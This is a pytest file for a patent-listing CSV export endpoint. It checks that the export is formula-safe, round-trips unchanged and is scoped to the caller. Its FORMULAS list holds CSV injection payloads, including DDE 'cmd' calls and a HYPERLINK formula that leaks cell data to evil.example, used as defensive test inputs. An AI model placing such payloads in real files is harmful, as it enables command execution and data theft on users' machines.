"""Export of a TTO's listings as CSV: Excel-friendly, formula-safe, and read back unchanged."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from app.ingest.cells import neutralise, restore
from tests.app.import_files import import_report, listing_by_number, to_csv, valid_row
from tests.factories import Actors, listing_payload

EXPORT = "/v1/listings/export"

# What an attacker types into a cell so that a spreadsheet runs it.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
]


def _rows(csv_bytes: bytes) -> list[list[str]]:
    text = csv_bytes.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_neutralise_and_restore_are_inverse_and_leave_plain_text_alone() -> None:
    for text in [*FORMULAS, "'=quoted", "''=twice", "一种方法", "'plain", "''", "a=b", "\t=1"]:
        assert restore(neutralise(text)) == text
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("一种方法") == "一种方法"
    assert restore("=1+1") == "=1+1"  # a raw formula in an uploaded file is kept verbatim


def test_formula_text_is_imported_verbatim_and_exported_neutralised(
    client: TestClient, actors: Actors
) -> None:
    rows = [
        valid_row(i) | {"title": formula, "contact": formula} for i, formula in enumerate(FORMULAS)
    ]
    rows.append(valid_row(50) | {"contact": "\t=1+1", "title": "\r=2+2"})
    report = import_report(client, actors.tto, to_csv(rows))
    assert report["created"] == len(rows), report

    for row, formula in zip(rows, FORMULAS, strict=False):
        stored = listing_by_number(client, actors.tto, row["patent_number"])
        assert (stored["title"], stored["contact"]) == (formula, formula)

    response = client.get(EXPORT, headers=actors.tto.headers)
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")  # Excel reads the BOM as UTF-8
    header, *cells = _rows(response.content)
    number, title, contact = (header.index(h) for h in ("专利号", "名称", "联系方式"))
    for line in cells:
        for value in (line[title], line[contact]):
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    exported = {line[number]: line[title] for line in cells}
    for row, formula in zip(rows, FORMULAS, strict=False):
        assert exported[row["patent_number"]] == "'" + formula


def test_an_exported_file_imports_back_unchanged(client: TestClient, actors: Actors) -> None:
    rows = [valid_row(i) for i in range(12)]
    rows[3] |= {"title": FORMULAS[0]}
    rows[4] |= {"contact": "+86 571 8795 0000"}
    import_report(client, actors.tto, to_csv(rows))
    client.post(
        "/v1/listings",
        json=listing_payload(claims="1. 一种方法，其特征在于：\n包括步骤A；\n步骤B。"),
        headers=actors.tto.headers,
    )
    exported = client.get(EXPORT, headers=actors.tto.headers).content

    report = import_report(client, actors.tto, exported, "导出.csv")

    assert (report["created"], report["updated"], report["rejected"]) == (0, 0, [])
    assert report["unchanged"] == 13
    assert report["ignored_columns"] == []


def test_export_holds_only_the_caller_s_own_listings(client: TestClient, actors: Actors) -> None:
    mine = client.post("/v1/listings", json=listing_payload(), headers=actors.tto.headers)
    theirs = client.post("/v1/listings", json=listing_payload(), headers=actors.other_tto.headers)

    header, *cells = _rows(client.get(EXPORT, headers=actors.tto.headers).content)

    numbers = [line[header.index("专利号")] for line in cells]
    assert numbers == [mine.json()["patent_number"]]
    assert theirs.json()["patent_number"] not in numbers


def test_withdrawn_listings_are_exported_only_when_asked_for(
    client: TestClient, actors: Actors
) -> None:
    listing = client.post("/v1/listings", json=listing_payload(), headers=actors.tto.headers)
    client.delete(f"/v1/listings/{listing.json()['id']}", headers=actors.tto.headers)

    active = _rows(client.get(EXPORT, headers=actors.tto.headers).content)
    everything = _rows(
        client.get(EXPORT, params={"status": "any"}, headers=actors.tto.headers).content
    )

    assert (len(active), len(everything)) == (1, 2)
